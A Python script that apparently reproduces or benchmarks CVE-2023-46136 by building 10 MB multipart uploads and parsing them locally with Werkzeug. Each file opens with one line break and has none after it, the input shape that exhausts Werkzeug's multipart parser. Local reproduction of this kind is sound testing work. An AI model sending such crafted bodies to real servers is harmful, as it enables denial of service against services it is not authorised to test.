"""A Werkzeug (Flask) upload endpoint receiving files whose first bytes are a line break and whose
rest has none, like a CSV export with a leading blank line followed by one long line of a minified
JSON or base64 payload (the report behind CVE-2023-46136). Each request is parsed through the
public Request API, as a view function reads request.files."""

import io

from werkzeug.test import create_environ
from werkzeug.wrappers import Request

BOUNDARY = "----formdata-werkzeug-upload"
UPLOADS = 4
FILE_BYTES = 10 * 1024 * 1024


def request_for(n):
    payload = b"\n" + (b"eyJpZCI6IDEsICJ2YWx1ZSI6IDJ9" * (FILE_BYTES // 28 + 1))[:FILE_BYTES]
    body = (
        f"--{BOUNDARY}\r\n"
        'Content-Disposition: form-data; name="note"\r\n\r\n'
        f"upload {n}\r\n"
        f"--{BOUNDARY}\r\n"
        f'Content-Disposition: form-data; name="file"; filename="export-{n}.json"\r\n'
        "Content-Type: application/octet-stream\r\n\r\n"
    ).encode() + payload + f"\r\n--{BOUNDARY}--\r\n".encode()
    environ = create_environ(
        path="/upload", method="POST", input_stream=io.BytesIO(body),
        content_type=f"multipart/form-data; boundary={BOUNDARY}", content_length=len(body))
    return Request(environ)


def main():
    received = 0
    for n in range(UPLOADS):
        request = request_for(n)
        received += len(request.files["file"].read())
    print(f"received {UPLOADS} uploads, {received} bytes")


if __name__ == "__main__":
    main()
